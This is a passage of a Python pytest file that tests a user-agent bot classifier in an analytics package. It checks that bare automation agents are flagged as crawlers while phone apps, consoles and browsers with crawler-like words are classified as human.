     "Chrome/120.0.6099.71 Safari/537.36", BotReason.CRAWLER, "(KHTML, like Gecko; Quux-Thumbnails)"),
    # A Mozilla token and a product name, nothing the device parser knows.
    ("Mozilla/5.0 (compatible; Plinkwell/1.0)", BotReason.CRAWLER, "Mozilla/5.0 (compatible; Plinkwell/1.0)"),
    ("Mozilla/5.0 grobnik/2.12.4", BotReason.CRAWLER, "Mozilla/5.0 grobnik/2.12.4"),
    ("Mozilla/5.0 (Quorbit/1.0)", BotReason.CRAWLER, "Mozilla/5.0 (Quorbit/1.0)"),
    ("Mozilla/5.0 (compatible; Zorblat/1.0.0; https://zorblat.example)", BotReason.CRAWLER,
     "Mozilla/5.0 (compatible; Zorblat/1.0.0; https://zorblat.example)"),
])
def test_automation_forms_no_list_names(agent: str, reason: BotReason, shown: str) -> None:
    verdict = is_bot(agent)
    assert (verdict.is_bot, verdict.reason_code) == (True, reason)
    assert verdict.matched is not None and verdict.matched.lower() == f"analytics (generic): {shown}".lower()


@pytest.mark.parametrize("agent", [
    # A contact link beside a phone or Apple platform is an app's (podcast players), not a crawler's.
    "Krazz/1.0 (Android 14; +https://krazz.app)",
    "PodcastAddict/v5 (+https://podcastaddict.com/; Android podcast app)",
    "Turtlecast/0.7.7; (Android 13); +https://www.turtlecast.app",
    # A device model named like a crawler word stays a device.
    "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
])
def test_generic_signs_spare_apps_on_devices(agent: str) -> None:
    assert is_bot(agent) == HUMAN


@pytest.mark.parametrize("agent", [
    # The words away from devices only: an app on a phone or a Mac may be called so.
    "Genius Scan/7.1.2 CFNetwork/1498.700.2 Darwin/23.6.0",
    "HealthWatcher/3.0 (Android 14; Pixel 8)",
    # Browsers the device parser knows although their agent is a bare Mozilla shell.
    "Mozilla/5.0 (compatible; Konqueror/3.1)",
    "Mozilla/5.0 (PLAYSTATION 3; 1.00)",
    # A word inside another word is no sign; nor a comma inside the engine's parenthesis.
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; Franciscans Australia; .NET CLR 1.1.4322)",
    "Mozilla/5.0 (PlayStation 4 PRO) AppleWebKit/531.3 (KHTML, like Gecko, HEVC, HDR, UHD) SCEE/1.0 Nuanti/2.0",
])
def test_automation_forms_spare_devices_and_browsers(agent: str) -> None:
    assert is_bot(agent) == HUMAN


def test_the_api_spelling_of_the_unknown_device_matches_the_parser_module() -> None:
    from analytics.sessions.stats import UNKNOWN_DEVICE
    from analytics.traffic.agents import DeviceType

    assert UNKNOWN_DEVICE == DeviceType.UNKNOWN
